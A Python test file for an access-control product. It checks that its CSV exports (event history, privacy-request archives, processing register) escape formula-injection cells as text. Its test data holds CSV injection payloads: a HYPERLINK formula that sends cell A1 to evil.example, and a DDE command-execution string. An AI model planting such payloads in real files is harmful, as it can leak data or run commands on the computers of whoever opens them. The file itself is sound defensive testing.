"""No CSV file the product writes lets a spreadsheet run a cell as a formula (issue 11, 8).

Hostile names go into a customer, a person and an event reason; every export that carries
them (the history CSV, the privacy export's persons.csv, customer.csv and access_events.csv,
the register CSV) writes each as text, through the one function ``accessd.csv_cells``.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

import accessd.csv_cells
from accessd.config import ControllerSettings, Settings
from accessd.csv_cells import csv_cell
from accessd.history.chain import append_event
from accessd.history.query import EventFilter, export_csv
from accessd.models import Customer, EventKind, EventMethod, LawfulBasis, Person
from accessd.privacy.processing_register import (
    CustomerBasis,
    InstallationFacts,
    build_register,
    render_csv,
)
from accessd.rights.export import export_customer, export_person
from tests.rights.seed import T0, World

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_a_formula_is_written_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [
    (None, ""), ("", ""), ("Ada", "Ada"), ("a=b", "a=b"), ("'=already", "'=already"),
    (-1, -1), (2.5, 2.5), (True, "True"),
])
def test_other_cells_are_left_as_they_are(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_escaping_twice_changes_nothing() -> None:
    for text in HOSTILE:
        once = csv_cell(text)
        assert csv_cell(once) == once


@pytest.fixture
def hostile_world(world: World, sessions: sessionmaker[Session]) -> World:
    """Ada is named ``=HYPERLINK(...)``, Acme ``@SUM(...)``, and an event's reason is ``-1``."""
    with sessions.begin() as session:
        session.execute(update(Person).where(Person.id == world.ada.id).values(name=HOSTILE[0]))
        session.execute(update(Customer).where(Customer.id == world.acme_id)
                        .values(name=HOSTILE[3]))
        acme = session.get_one(Customer, world.acme_id)
        ada = session.get_one(Person, world.ada.id)
        append_event(session, kind=EventKind.DENIED, customer=acme, person=ada,
                     door_id=world.door_ids[0], method=EventMethod.PIN, reason="\t=1+1",
                     at=T0.replace(hour=20))
    return world


@pytest.fixture
def cells_seen(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Every value that went through ``accessd.csv_cells.csv_cell``."""
    seen: list[object] = []

    def spy(value: object) -> object:
        seen.append(value)
        return csv_cell(value)

    monkeypatch.setattr(accessd.csv_cells, "csv_cell", spy)
    yield seen


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell and cell[0] in "=+-@\t\r"]


def _zip_csvs(path: Path) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(path) as archive:
        return {name: list(csv.reader(io.StringIO(archive.read(name).decode())))
                for name in archive.namelist() if name.endswith(".csv")}


def test_the_history_csv_escapes_names_and_reasons(
        hostile_world: World, sessions: sessionmaker[Session], cells_seen: list[object]) -> None:
    with sessions() as session:
        rows = list(csv.reader(io.StringIO("".join(export_csv(session, EventFilter())))))
    assert not _formula_cells(rows)
    flat = {cell for row in rows for cell in row}
    assert {"'" + HOSTILE[0], "'" + HOSTILE[3], "'\t=1+1"} <= flat
    assert HOSTILE[0] in cells_seen  # through the shared function, not a copy of it


def test_the_privacy_export_escapes_persons_customer_and_events(
        hostile_world: World, sessions: sessionmaker[Session], tmp_path: Path,
        cells_seen: list[object]) -> None:
    with sessions() as session:
        export_person(session, session.get_one(Person, hostile_world.ada.id),
                      tmp_path / "ada.zip")
        export_customer(session, session.get_one(Customer, hostile_world.acme_id),
                        tmp_path / "acme.zip")
    for archive in ("ada.zip", "acme.zip"):
        tables = _zip_csvs(tmp_path / archive)
        for name, rows in tables.items():
            assert not _formula_cells(rows), (archive, name)
        persons = {cell for row in tables["persons.csv"] for cell in row}
        customer = {cell for row in tables["customer.csv"] for cell in row}
        events = {cell for row in tables["access_events.csv"] for cell in row}
        assert "'" + HOSTILE[0] in persons, archive
        assert "'" + HOSTILE[3] in customer, archive
        assert "'\t=1+1" in events, archive
    assert HOSTILE[0] in cells_seen and HOSTILE[3] in cells_seen


def test_the_privacy_export_json_keeps_the_names_as_they_are(
        hostile_world: World, sessions: sessionmaker[Session], tmp_path: Path) -> None:
    with sessions() as session:
        export_person(session, session.get_one(Person, hostile_world.ada.id),
                      tmp_path / "ada.zip")
    with zipfile.ZipFile(tmp_path / "ada.zip") as archive:
        [ada] = json.loads(archive.read("persons.json"))
    assert ada["name"] == HOSTILE[0]  # JSON runs no formulas: the name is kept as it is


def test_the_register_csv_escapes_every_cell(cells_seen: list[object]) -> None:
    settings = Settings(controller=ControllerSettings(name=HOSTILE[1], address=HOSTILE[2],
                                                      email=HOSTILE[3]))
    facts = InstallationFacts([CustomerBasis(HOSTILE[0], LawfulBasis.CONSENT, None)],
                              [(HOSTILE[4], "auditor")])
    for langs in (["en"], ["en", "nl"]):
        registers = [build_register(settings, lang, facts) for lang in langs]  # type: ignore[arg-type]
        rows = list(csv.reader(io.StringIO(render_csv(registers))))
        assert not _formula_cells(rows)
        # The controller column starts with the hostile name, written as text on every row.
        column = 4 if len(langs) > 1 else 3
        assert {row[column][:5] for row in rows[1:]} == {"'+1 ("}
    assert "+1" in [str(c)[:2] for c in cells_seen]
